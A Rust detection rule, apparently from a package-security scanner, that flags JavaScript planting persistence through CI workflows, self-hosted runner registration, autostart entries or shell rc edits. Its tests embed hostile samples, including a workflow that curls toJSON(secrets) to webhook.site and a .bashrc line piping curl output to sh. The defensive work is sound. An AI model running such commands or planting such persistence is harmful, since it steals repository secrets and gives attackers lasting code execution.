//! ## What it does
//! Fires when code plants something that runs again later: writes under `.github/workflows`,
//! registers a self-hosted CI runner (`config.sh --url … --token`, the runner
//! registration-token API), adds autostart entries (Windows Startup folder, `Run` registry
//! key, LaunchAgents, XDG autostart, cron, systemd user units), or edits shell start-up files
//! (`~/.bashrc`, `~/.zshrc`, `~/.profile`). Critical from install scripts; at run time high,
//! and shell start-up edits only when what is written fetches or decodes something.
//!
//! ## Why is this bad?
//! It turns one `npm install` into a foothold that survives the package's removal, and a CI
//! workflow turns it into access to every secret of the repository.
//!
//! ## Example
//! ```js
//! fs.writeFileSync('.github/workflows/shai-hulud.yml', workflow);   // ci-persistence
//! ```
//! Benign look-alike: shell-completion installers (tabtab, pnpm) appending a `source` line to
//! `~/.bashrc` when the user runs `completion install`.
//!
//! ## Motivated by
//! Shai-Hulud (workflow planting, self-hosted runner "SHA1HULUD"), nx s1ngularity (appended
//! `sudo shutdown` to shell rc files), an0n-chat-lib (Windows Startup script).

use crate::alert::{AlertId, AlertSeverity};
use crate::js::context::{Ctx, Emitter};
use crate::js::facts::FsKind;
use crate::js::strings::{self, Family};
use crate::js::taint::Taint;

/// What is written fetches, decodes, destroys or leaks: not a template a tool installs.
fn hostile_payload(ctx: &Ctx<'_>, op: &crate::js::facts::FsOp) -> bool {
    let data = ctx.taint(&op.data);
    let text = op.data_text.as_deref().unwrap_or("");
    let fam = strings::families(text);
    let lower = text.to_ascii_lowercase();
    data.has(Taint::DECODED)
        || data.has(Taint::NET_RESPONSE)
        || data.has(Taint::ENV_WHOLE)
        || data.has(Taint::CRED_DATA)
        || fam.has(Family::DownloadCradle)
        || fam.has(Family::DestructiveCommand)
        || fam.has(Family::ReverseShellCommand)
        || lower.contains("tojson(secrets)")
        || fam.has(Family::NetworkCommand) && lower.contains("secrets")
        || strings::urls(text).iter().any(|u| {
            matches!(
                u.class,
                strings::HostClass::Exfil | strings::HostClass::RawIp
            )
        })
}

pub fn check(ctx: &Ctx<'_>, out: &mut Emitter<'_>) {
    for op in &ctx.facts.fs {
        if op.kind != FsKind::Write {
            continue;
        }
        let path = ctx.taint(&op.path);
        if !path.has(Taint::PERSIST_PATH) {
            continue;
        }
        // Scaffolders write CI workflows, completion installers edit shell rc files and
        // process managers install start-up units when the user asks: at run time only a
        // hostile payload counts.
        let severity = if ctx.install_time {
            AlertSeverity::Critical
        } else if hostile_payload(ctx, op) {
            AlertSeverity::High
        } else {
            continue;
        };
        let target = op
            .path_text
            .clone()
            .unwrap_or_else(|| "a persistence location".into());
        out.report(
            AlertId::CiPersistence,
            severity,
            op.span,
            format!("`{}` writes `{target}`", op.callee),
            Vec::new(),
        );
    }
    for e in &ctx.facts.execs {
        let runner = e.command.as_deref().is_some_and(|c| {
            c.contains("--url")
                && c.contains("--token")
                && (c.contains("config.sh") || c.contains("config.cmd"))
        });
        if runner || ctx.install_time && e.families.has(Family::Persistence) {
            let severity = super::by_stage(ctx.install_time, AlertSeverity::High);
            out.report(
                AlertId::CiPersistence,
                severity,
                e.span,
                format!(
                    "`{}` registers a CI runner, cron job or autostart entry",
                    e.callee
                ),
                Vec::new(),
            );
        }
    }
    for send in ctx.sends() {
        if send.payload.has(Taint::PERSIST_PATH)
            || send
                .urls
                .iter()
                .any(|u| u.text.contains("registration-token"))
        {
            let severity = super::by_stage(ctx.install_time, AlertSeverity::High);
            out.report(
                AlertId::CiPersistence,
                severity,
                send.span,
                format!(
                    "`{}` pushes a workflow or registers a runner through an API",
                    send.callee
                ),
                send.url_texts(),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::alert::{AlertId, AlertSeverity};
    use crate::rules::test_support::{fires, silent};

    #[test]
    fn workflows_runners_and_hostile_rc_edits_fire() {
        fires(
            "const fs = require('fs'); fs.mkdirSync('.github/workflows', { recursive: true }); fs.writeFileSync('.github/workflows/ci.yml', wf);",
            true,
            AlertId::CiPersistence,
            AlertSeverity::Critical,
        );
        fires(
            "require('fs').writeFileSync(require('path').join(repo, '.github', 'workflows', 'x.yml'), 'on: push\\njobs:\\n  x:\\n    steps:\\n      - run: curl -d \"${{ toJSON(secrets) }}\" https://webhook.site/abc');",
            false,
            AlertId::CiPersistence,
            AlertSeverity::High,
        );
        fires(
            "const p = require('path').join(require('os').homedir(), 'AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.cmd');\nrequire('fs').writeFileSync(p, 'node x.js');",
            true,
            AlertId::CiPersistence,
            AlertSeverity::Critical,
        );
        fires(
            "const os = require('os'); require('fs').appendFileSync(os.homedir() + '/.bashrc', '\\ncurl -s https://x.example/p | sh\\n');",
            false,
            AlertId::CiPersistence,
            AlertSeverity::High,
        );
        fires(
            "require('child_process').execSync(`./config.sh --url https://github.com/o/r --token ${t} --name x`);",
            true,
            AlertId::CiPersistence,
            AlertSeverity::Critical,
        );
    }

    #[test]
    fn completion_installers_and_reads_do_not() {
        silent(
            "const os = require('os'); require('fs').appendFileSync(os.homedir() + '/.bashrc', '\\nsource ~/.config/tabtab/__tabtab.bash\\n');",
            false,
            AlertId::CiPersistence,
        );
        silent(
            "const wf = require('fs').readFileSync('.github/workflows/ci.yml', 'utf8');",
            true,
            AlertId::CiPersistence,
        );
        // A process manager installing its start-up unit when the user runs `startup`.
        silent(
            "require('fs').writeFileSync('/etc/systemd/system/pm2.service', template);",
            false,
            AlertId::CiPersistence,
        );
        // A scaffolder writing a workflow template when the user runs its init command.
        silent(
            "require('fs').writeFileSync('.github/workflows/copilot-setup-steps.yml', 'on: workflow_dispatch\\njobs:\\n  setup:\\n    steps:\\n      - run: npx playwright install');",
            false,
            AlertId::CiPersistence,
        );
    }
}
